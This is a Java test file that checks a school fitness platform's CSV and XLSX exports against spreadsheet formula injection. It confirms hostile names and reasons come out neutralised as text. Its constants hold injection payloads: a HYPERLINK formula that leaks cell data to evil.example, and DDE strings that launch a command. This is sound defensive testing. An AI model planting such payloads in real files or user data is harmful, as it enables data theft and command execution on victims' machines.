package org.zhsz.platform;

import static org.assertj.core.api.Assertions.assertThat;
import static org.zhsz.support.DemoUsers.jwt;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.MediaType;
import org.springframework.test.web.reactive.server.WebTestClient;
import org.zhsz.organization.TermCalendar;
import org.zhsz.support.ZhszTest;

/**
 * Every spreadsheet the API hands out, fed with hostile values through the API (a school name, a student's name,
 * a 免测 reason): no cell a spreadsheet program would evaluate, and the numbers are still numeric cells. The
 * architecture rule in {@link TableWriterTests} keeps new writers on the same path.
 */
@ZhszTest
class SpreadsheetInjectionTests {

    static final String SCHOOL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")";
    static final String NAME = "=cmd|' /C calc'!A";
    static final String REASON = "-2+3+cmd|' /C calc'!A0";

    @Autowired
    WebTestClient web;

    private WebTestClient as(String user) {
        return web.mutate().responseTimeout(java.time.Duration.ofSeconds(60)).build().mutateWith(jwt(user));
    }

    private static boolean evaluable(String s) {
        return !s.isEmpty() && "=+-@\t\r".indexOf(s.stripLeading().isEmpty() ? ' ' : s.stripLeading().charAt(0)) >= 0;
    }

    /** Every text cell of every sheet; asserts none is a formula and none would be evaluated. */
    private static List<String> texts(byte[] xlsx) throws IOException {
        List<String> out = new ArrayList<>();
        try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
            for (Sheet sheet : wb) {
                for (Row r : sheet) {
                    for (Cell c : r) {
                        assertThat(c.getCellType()).isNotEqualTo(CellType.FORMULA);
                        if (c.getCellType() == CellType.STRING) {
                            assertThat(evaluable(c.getStringCellValue())).as(c.getStringCellValue()).isFalse();
                            out.add(c.getStringCellValue());
                        }
                    }
                }
            }
        }
        return out;
    }

    private static List<String> csvTexts(byte[] csv) throws IOException {
        List<String> out = new ArrayList<>();
        String text = new String(csv, StandardCharsets.UTF_8).substring(1);
        for (CSVRecord r : CSVFormat.DEFAULT.parse(new StringReader(text))) {
            for (String v : r) {
                if (!v.matches("-?\\d+(\\.\\d+)?")) {
                    assertThat(evaluable(v)).as(v).isFalse();
                }
                out.add(v);
            }
        }
        return out;
    }

    private void patchSchool(String name) {
        as("admin_s2").patch().uri("/api/v1/schools/S2").contentType(MediaType.APPLICATION_JSON)
                .bodyValue(Map.of("name", name)).exchange().expectStatus().isOk();
    }

    @Test
    void schoolAndCountyStatisticsAsCsvAndXlsx() throws IOException {
        String year = TermCalendar.schoolYear(TermCalendar.codeOf(LocalDate.now(SchoolClock.ZONE)));
        String original = (String) as("admin_s2").get().uri("/api/v1/schools/S2").exchange().expectStatus().isOk()
                .expectBody(Map.class).returnResult().getResponseBody().get("name");
        patchSchool(SCHOOL);
        try {
            byte[] csv = as("bureau").get().uri("/api/v1/fitness/stats/county?format=csv&year=" + year).exchange()
                    .expectStatus().isOk().expectBody(byte[].class).returnResult().getResponseBody();
            assertThat(csvTexts(csv)).contains("'" + SCHOOL);
            byte[] xlsx = as("bureau").get().uri("/api/v1/fitness/stats/county?format=xlsx&year=" + year).exchange()
                    .expectStatus().isOk().expectBody(byte[].class).returnResult().getResponseBody();
            assertThat(texts(xlsx)).contains("'" + SCHOOL);
            try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
                Row first = wb.getSheet("年级性别").getRow(1);
                assertThat(first.getCell(4).getCellType()).as("受测人数 is a number").isEqualTo(CellType.NUMERIC);
            }
            // the school's own statistics name the school in every row
            byte[] schoolCsv = as("admin_s2").get().uri("/api/v1/fitness/stats?format=csv&year=" + year).exchange()
                    .expectStatus().isOk().expectBody(byte[].class).returnResult().getResponseBody();
            assertThat(csvTexts(schoolCsv)).contains("'" + SCHOOL);
            byte[] schoolXlsx = as("admin_s2").get().uri("/api/v1/fitness/stats?format=xlsx&year=" + year)
                    .exchange().expectStatus().isOk().expectBody(byte[].class).returnResult().getResponseBody();
            assertThat(texts(schoolXlsx)).contains("'" + SCHOOL);
        } finally {
            patchSchool(original);
        }
    }

    @Test
    void theNationalLayoutExport() throws IOException {
        String year = TermCalendar.schoolYear(TermCalendar.codeOf(LocalDate.now(SchoolClock.ZONE)));
        Map<?, ?> student = as("admin_s1").get().uri("/api/v1/students/S1-C1-16").exchange().expectStatus().isOk()
                .expectBody(Map.class).returnResult().getResponseBody();
        String original = (String) student.get("name");
        as("admin_s1").patch().uri("/api/v1/students/S1-C1-16").contentType(MediaType.APPLICATION_JSON)
                .bodyValue(Map.of("name", NAME)).exchange().expectStatus().isOk();
        var mb = UploadApiTests.file(org.zhsz.support.TestImages.plainPng(), "证明.png");
        mb.part("reason", REASON);
        as("pe_c1").put().uri("/api/v1/students/{id}/fitness/{y}/exemption", "S1-C1-17", year)
                .contentType(MediaType.MULTIPART_FORM_DATA)
                .body(org.springframework.web.reactive.function.BodyInserters.fromMultipartData(mb.build()))
                .exchange().expectStatus().isOk();
        try {
            byte[] xlsx = as("admin_s1").get().uri("/api/v1/fitness/export?year=" + year).exchange()
                    .expectStatus().isOk().expectBody(byte[].class).returnResult().getResponseBody();
            assertThat(texts(xlsx)).contains("'" + NAME, "'" + REASON);
            byte[] template = as("admin_s1").get().uri("/api/v1/fitness/import/template?classId=S1-C1&year=" + year)
                    .exchange().expectStatus().isOk().expectBody(byte[].class).returnResult().getResponseBody();
            assertThat(texts(template)).as("the fitness import template lists the class").contains("'" + NAME);
            try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
                Sheet results = wb.getSheet("体测成绩");
                int height = -1;
                for (Cell c : results.getRow(0)) {
                    if (c.getStringCellValue().startsWith("身高")) {
                        height = c.getColumnIndex();
                    }
                }
                boolean numeric = false;
                for (Row r : results) {
                    Cell c = r.getCell(height);
                    numeric |= r.getRowNum() > 0 && c != null && c.getCellType() == CellType.NUMERIC;
                }
                assertThat(numeric).as("heights are numeric cells").isTrue();
            }
        } finally {
            as("admin_s1").patch().uri("/api/v1/students/S1-C1-16").contentType(MediaType.APPLICATION_JSON)
                    .bodyValue(Map.of("name", original)).exchange().expectStatus().isOk();
        }
    }

    @Test
    void rejectedRowsGoBackNeutralisedAndUploadAgainUnchanged() throws IOException {
        ImportJobs.Rejected rejected = new ImportJobs.Rejected("roster", List.of("学籍号", "姓名"),
                List.of(new ImportJobs.RejectedRow(2, List.of("G001", NAME), List.of()),
                        new ImportJobs.RejectedRow(3, List.of("G002", "-1.5"), List.of())));
        byte[] xlsx = RejectedRowsSheet.write(rejected, "未导入", "原因", errors -> REASON);
        assertThat(texts(xlsx)).contains("'" + NAME, "'" + REASON, "'-1.5");
        java.nio.file.Path file = java.nio.file.Files.createTempFile("rejected", ".xlsx");
        try {
            java.nio.file.Files.write(file, xlsx);
            List<List<String>> rows = new ArrayList<>();
            TabularReader.read(file, (n, cells) -> rows.add(cells));
            assertThat(rows.get(1)).startsWith("G001", NAME);
            assertThat(rows.get(2)).startsWith("G002", "-1.5");
        } finally {
            java.nio.file.Files.deleteIfExists(file);
        }
    }
}
